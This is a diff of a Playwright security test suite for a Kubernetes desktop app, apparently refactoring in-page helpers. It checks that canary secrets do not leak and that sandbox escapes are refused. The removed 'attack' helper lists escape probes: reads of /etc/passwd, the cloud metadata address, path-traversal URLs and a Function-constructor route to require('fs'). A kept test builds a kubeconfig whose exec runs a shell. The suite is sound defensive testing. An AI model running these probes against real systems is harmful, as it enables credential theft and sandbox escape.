@@ -4,9 +4,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
 import { parse, stringify } from 'yaml';
-import { type App, expect, startApp, test } from './app.ts';
+import { type App, expect, hostOf, startApp, test } from './app.ts';
 import { noClusters, type RealCluster, startCluster } from './clusters.ts';
 import { open } from './demo.ts';
+import { attack, exchange } from './drillPage.ts';
 
 const why = noClusters();
 test.describe.configure({ mode: 'serial' });
@@ -35,7 +36,7 @@ const received: string[] = [];
 
 test.beforeAll(async () => {
   test.setTimeout(240_000);
-  const host = test.info().project.name === 'electron' ? 'electron' : 'chromium';
+  const host = hostOf(test.info());
   folder = mkdtempSync(join(tmpdir(), 'kubesage-drill-'));
   data = join(folder, 'data');
   mkdirSync(data);
@@ -103,9 +104,10 @@ test('S5 canary secrets are in no list, object, export, memory of the page, answ
     await page.waitForTimeout(500);
   }
   // A script in the page asks the engine for everything that may hold one.
-  const asked = await page.evaluate(askEverything, await clusterIds());
-  expect(asked.answers).toBeGreaterThan(10);
-  found('answers of the engine', asked.text);
+  const clusters = (await rows<{ key: string }>('fleet.clusters')).map(({ key }) => key);
+  const answers = await page.evaluate(exchange, { messages: questionsAbout(clusters), forMs: 4_000 });
+  expect(answers.length).toBeGreaterThan(10);
+  found('answers of the engine', answers.join('\n'));
   found('answers over the network', received.join('\n'));
   found('page', await page.content());
   const heap = await heapOf();
@@ -188,7 +190,7 @@ test(
   desktopOnly,
   async () => {
     test.setTimeout(120_000);
-    const { page, desktop } = app;
+    const { desktop } = app;
     await desktop?.evaluate(({ dialog }) => {
       const asked: string[] = [];
       Object.assign(globalThis, { asked });
@@ -206,18 +208,14 @@ test(
       users: [{ name: 'evil', user: { exec: execOf('/bin/sh', ['-c', `touch ${mark}`]), tokenFile: '/etc/passwd' } }],
       contexts: [{ name: 'evil', context: { cluster: 'evil', user: 'evil' } }],
     });
-    const added = await page.evaluate(call, { to: 'fleet.addSource', input: { text } });
-    expect(added).toContain('cancelled');
-    expect(await page.evaluate(call, { to: 'fleet.addSource', input: { path: '/etc' } })).toContain('cancelled');
+    expect(await call('fleet.addSource', { text })).toContain('cancelled');
+    expect(await call('fleet.addSource', { path: '/etc' })).toContain('cancelled');
     // The plugin of the kubeconfig that is there waits for consent: its hash is in the page, and is not enough.
-    const waiting = JSON.parse(await page.evaluate(rows, 'fleet.clusters')) as {
-      key: string;
-      consent?: { hash: string };
-    }[];
-    const consent = waiting.find((row) => row.consent !== undefined);
-    expect(consent?.consent?.hash).toMatch(/^[\da-f]{64}$/);
-    const input = { cluster: consent?.key, hash: consent?.consent?.hash };
-    expect(await page.evaluate(call, { to: 'fleet.approve', input })).toContain('cancelled');
+    const clusters = await rows<{ key: string; consent?: { hash: string } }>('fleet.clusters');
+    const waiting = clusters.find(({ consent }) => consent !== undefined);
+    expect(waiting?.consent?.hash).toMatch(/^[\da-f]{64}$/);
+    const answer = await call('fleet.approve', { cluster: waiting?.key, hash: waiting?.consent?.hash });
+    expect(answer).toContain('cancelled');
     const asked = await desktop?.evaluate(() => (globalThis as unknown as { asked: string[] }).asked);
     expect(asked).toHaveLength(3);
     expect(asked?.[0]).toContain('/etc/passwd');
@@ -305,80 +303,23 @@ function serverOf(kubeconfig: string): string {
   return clusters[0]?.cluster.server ?? '';
 }
 
-async function clusterIds(): Promise<string[]> {
-  return (JSON.parse(await app.page.evaluate(rows, 'fleet.clusters')) as { key: string }[]).map(({ key }) => key);
+/** One call of the engine out of the page: what came back, as text. */
+async function call(to: string, input: unknown): Promise<string> {
+  const [answer = ''] = await app.page.evaluate(exchange, { messages: [{ type: 'call', id: 1, to, input }] });
+  return answer;
 }
 
-async function heapOf(): Promise<string> {
-  await app.page.evaluate(() => Object.assign(globalThis, { control: ['CONTROL', 'marker'].join('') }));
-  const session = await app.page.context().newCDPSession(app.page);
-  const parts: string[] = [];
-  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => parts.push(chunk));
-  await session.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
-  await session.detach();
-  return parts.join('');
+/** The first rows of a live, asked for out of the page. */
+async function rows<T>(to: string): Promise<T[]> {
+  const messages = [{ type: 'open', id: 1, to, input: {}, credit: 1 }];
+  const [answer = ''] = await app.page.evaluate(exchange, { messages });
+  const { change } = JSON.parse(answer) as { change?: { upsert?: T[] } };
+  if (change?.upsert === undefined) throw new Error(`${to} answered ${answer}`);
+  return change.upsert;
 }
 
-/** In the page: one call of the engine, as any script there can make it. Answers what came back, as text. */
-async function call({ to, input }: { to: string; input: unknown }): Promise<string> {
-  const { kubesage } = globalThis as unknown as { kubesage?: { connect(): void } };
-  const message = { type: 'call', id: 1, to, input };
-  if (kubesage === undefined) {
-    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/api/v1/ws`);
-    await new Promise((resolve) => socket.addEventListener('open', resolve));
-    const answer = new Promise<string>((resolve) => socket.addEventListener('message', ({ data }) => resolve(data)));
-    socket.send(JSON.stringify(message));
-    return answer.finally(() => socket.close());
-  }
-  const port = new Promise<MessagePort>((resolve) =>
-    window.addEventListener('message', function hear(event) {
-      if (event.data?.type !== 'kubesage:port') return;
-      window.removeEventListener('message', hear);
-      resolve(event.ports[0] as MessagePort);
-    }),
-  );
-  kubesage.connect();
-  const mine = await port;
-  const answer = new Promise<string>((resolve) => {
-    mine.onmessage = ({ data }) => resolve(JSON.stringify(data));
-  });
-  mine.postMessage(message);
-  return answer.finally(() => mine.close());
-}
-
-/** In the page: the rows of a live, as JSON. */
-async function rows(to: string): Promise<string> {
-  const { kubesage } = globalThis as unknown as { kubesage?: { connect(): void } };
-  const message = { type: 'open', id: 1, to, input: {}, credit: 1 };
-  const rowsOf = (data: { change?: { upsert?: unknown } }) => JSON.stringify(data.change?.upsert ?? data);
-  if (kubesage === undefined) {
-    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/api/v1/ws`);
-    await new Promise((resolve) => socket.addEventListener('open', resolve));
-    const answer = new Promise<string>((resolve) =>
-      socket.addEventListener('message', ({ data }) => resolve(rowsOf(JSON.parse(data)))),
-    );
-    socket.send(JSON.stringify(message));
-    return answer.finally(() => socket.close());
-  }
-  const port = new Promise<MessagePort>((resolve) =>
-    window.addEventListener('message', function hear(event) {
-      if (event.data?.type !== 'kubesage:port') return;
-      window.removeEventListener('message', hear);
-      resolve(event.ports[0] as MessagePort);
-    }),
-  );
-  kubesage.connect();
-  const mine = await port;
-  const answer = new Promise<string>((resolve) => {
-    mine.onmessage = ({ data }) => resolve(rowsOf(data));
-  });
-  mine.postMessage(message);
-  return answer.finally(() => mine.close());
-}
-
-/** In the page: every question whose answer could hold a secret. Answers all answers as one text. */
-async function askEverything(clusters: string[]): Promise<{ answers: number; text: string }> {
-  const { kubesage } = globalThis as unknown as { kubesage?: { connect(): void } };
+/** Every question whose answer could hold a secret. */
+function questionsAbout(clusters: readonly string[]): object[] {
   const questions: [string, unknown][] = [];
   for (const cluster of clusters) {
     for (const name of ['canary', 'applied']) {
@@ -411,216 +352,18 @@ async function askEverything(clusters: string[]): Promise<{ answers: number; tex
   for (const to of ['fleet.clusters', 'fleet.sources', 'system.about', 'system.notices', 'settings.preferences']) {
     questions.push([to, {}]);
   }
-  const answers: string[] = [];
-  const send = (post: (message: unknown) => void) => {
-    for (const [id, [to, input]] of questions.entries()) {
-      const isLive = /list|clusters|events|relations|notices|preferences/.test(to);
-      post({ type: isLive ? 'open' : 'call', id: id + 1, to, input, ...(isLive ? { credit: 3 } : {}) });
-    }
-  };
-  if (kubesage === undefined) {
-    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/api/v1/ws`);
-    await new Promise((resolve) => socket.addEventListener('open', resolve));
-    socket.addEventListener('message', ({ data }) => answers.push(data));
-    send((message) => socket.send(JSON.stringify(message)));
-    await new Promise((resolve) => setTimeout(resolve, 4_000));
-    socket.close();
-  } else {
-    const port = new Promise<MessagePort>((resolve) =>
-      window.addEventListener('message', function hear(event) {
-        if (event.data?.type !== 'kubesage:port') return;
-        window.removeEventListener('message', hear);
-        resolve(event.ports[0] as MessagePort);
-      }),
-    );
-    kubesage.connect();
-    const mine = await port;
-    mine.onmessage = ({ data }) => answers.push(JSON.stringify(data));
-    send((message) => mine.postMessage(message));
-    await new Promise((resolve) => setTimeout(resolve, 4_000));
-    mine.close();
-  }
-  return { answers: answers.length, text: answers.join('\n') };
+  return questions.map(([to, input], at) => {
+    const isLive = /list|clusters|events|relations|notices|preferences/.test(to);
+    return { type: isLive ? 'open' : 'call', id: at + 1, to, input, ...(isLive ? { credit: 3 } : {}) };
+  });
 }
 
-/** In the page: ways out of it. Answers those that led anywhere. */
-async function attack({
-  server,
-  file,
-}: {
-  server: string;
-  file: string;
-}): Promise<{ tried: number; gained: string[] }> {
-  const gained: string[] = [];
-  let tried = 0;
-  const attempt = async (name: string, way: () => unknown): Promise<void> => {
-    tried++;
-    try {
-      const late = new Promise((resolve) => setTimeout(() => resolve('late'), 3_000));
-      const got = await Promise.race([way(), late]);
-      if (got !== undefined && got !== null && got !== false && got !== 'late' && got !== '')
-        gained.push(`${name}: ${String(got).slice(0, 80)}`);
-    } catch {
-      // Refused, as it shall be.
-    }
-  };
-  const scope = globalThis as Record<string, unknown>;
-  for (const name of [
-    'require',
-    'process',
-    'module',
-    'Buffer',
-    '__dirname',
-    'electron',
-    'ipcRenderer',
-    'Deno',
-    'Bun',
-  ]) {
-    await attempt(`global ${name}`, () => scope[name] !== undefined && name);
-  }
-  const make = (scope.kubesage as { connect?: { constructor: (code: string) => () => unknown } } | undefined)?.connect
-    ?.constructor;
-  // In a task of the page's own: what runs for a debugger is exempt from the policy.
-  await attempt(
-    'the preload’s Function',
-    () =>
-      new Promise((resolve, reject) =>
-        setTimeout(() => {
-          try {
-            resolve(make?.('return typeof require !== "undefined" && require("fs")')());
-          } catch (error) {
-            reject(error);
-          }
-        }),
-      ),
-  );
-  for (const url of [
-    `file://${file}`,
-    'file:///etc/passwd',
-    `${server}/api/v1/secrets`,
-    `${server}/version`,
-    'https://example.com/',
-    'http://169.254.169.254/latest/meta-data/',
-    'http://127.0.0.1:9/',
-    'chrome://version',
-    'devtools://devtools/bundled/inspector.html',
-    'filesystem:file:///etc/passwd',
-    'blob:null/x',
-    'data:text/plain,x',
-  ]) {
-    await attempt(`fetch ${url}`, async () => (await fetch(url)).status);
-    await attempt(
-      `request ${url}`,
-      () =>
-        new Promise((resolve, reject) => {
-          const request = new XMLHttpRequest();
-          request.open('GET', url);
-          request.onload = () => resolve(request.responseText);
-          request.onerror = reject;
-          request.send();
-        }),
-    );
-  }
-  for (const path of [
-    '/../../package.json',
-    '/..%2f..%2fpackage.json',
-    '/%2e%2e/%2e%2e/package.json',
-    `/..%2f..%2f..%2f..%2f..%2f..${file}`,
-    '/....//....//etc/passwd.json',
-  ]) {
-    await attempt(`own server ${path}`, async () => {
-      const answer = await fetch(`${location.origin === 'null' ? 'app://kubesage' : location.origin}${path}`);
-      const text = await answer.text();
-      return answer.ok && !text.includes('<div id="root"') && text;
-    });
-  }
-  await attempt(
-    'socket',
-    () =>
-      new Promise((resolve, reject) => {
-        const socket = new WebSocket(server.replace('https', 'wss'));
-        socket.onopen = () => resolve('open');
-        socket.onerror = reject;
-      }),
-  );
-  for (const [name, code] of [
-    ['blob', 'blob'],
-    ['data', 'data'],
-  ] as const) {
-    await attempt(
-      `worker from ${name}`,
-      () =>
-        new Promise((resolve, reject) => {
-          const source = 'postMessage("ran")';
-          const url = code === 'data' ? `data:text/javascript,${source}` : URL.createObjectURL(new Blob([source]));
-          const worker = new Worker(url);
-          worker.onmessage = () => resolve('ran');
-          worker.onerror = reject;
-        }),
-    );
-  }
-  for (const address of [
-    `file://${file}`,
-    'https://example.com/',
-    'data:text/html,<script>parent.postMessage(1)</script>',
-  ]) {
-    await attempt(
-      `frame ${address}`,
-      () =>
-        new Promise((resolve, reject) => {
-          const frame = document.createElement('iframe');
-          frame.src = address;
-          addEventListener('message', ({ source }) => source === frame.contentWindow && resolve('spoke'));
-          frame.onload = () => {
-            try {
-              resolve(frame.contentDocument?.body?.innerText);
-            } catch (error) {
-              reject(error);
-            }
-          };
-          document.body.append(frame);
-          setTimeout(() => {
-            frame.remove();
-            reject(new Error('blocked'));
-          }, 1_000);
-        }),
-    );
-  }
-  // A browser opens windows at a click; the desktop has one window and no other.
-  if (scope.kubesage !== undefined)
-    await attempt('window', () => window.open('https://example.com/', '_blank', 'popup') !== null && 'opened');
-  await attempt(
-    'script',
-    () =>
-      new Promise((resolve, reject) => {
-        const script = document.createElement('script');
-        script.src = 'https://example.com/x.js';
-        script.onload = () => resolve('loaded');
-        script.onerror = reject;
-        document.body.append(script);
-      }),
-  );
-  await attempt('service worker', async () => (await navigator.serviceWorker.register('/sw.js')).scope);
-  await attempt('clipboard', () => navigator.clipboard.readText());
-  await attempt(
-    'files',
-    async () => (await (scope as { showOpenFilePicker?: () => Promise<unknown[]> }).showOpenFilePicker?.())?.length,
-  );
-  await attempt(
-    'devices',
-    async () =>
-      (await (navigator as unknown as { usb?: { requestDevice(options: object): Promise<object> } }).usb?.requestDevice(
-        { filters: [] },
-      )) !== undefined,
-  );
-  await attempt('notification', async () => (await Notification.requestPermission()) === 'granted');
-  await attempt(
-    'beacon to a server',
-    () =>
-      new Promise((resolve) => {
-        document.addEventListener('securitypolicyviolation', () => resolve(''), { once: true });
-        navigator.sendBeacon('https://example.com/', 'x');
-      }),
-  );
-  return { tried, gained };
+async function heapOf(): Promise<string> {
+  await app.page.evaluate(() => Object.assign(globalThis, { control: ['CONTROL', 'marker'].join('') }));
+  const session = await app.page.context().newCDPSession(app.page);
+  const parts: string[] = [];
+  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => parts.push(chunk));
+  await session.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
+  await session.detach();
+  return parts.join('');
 }
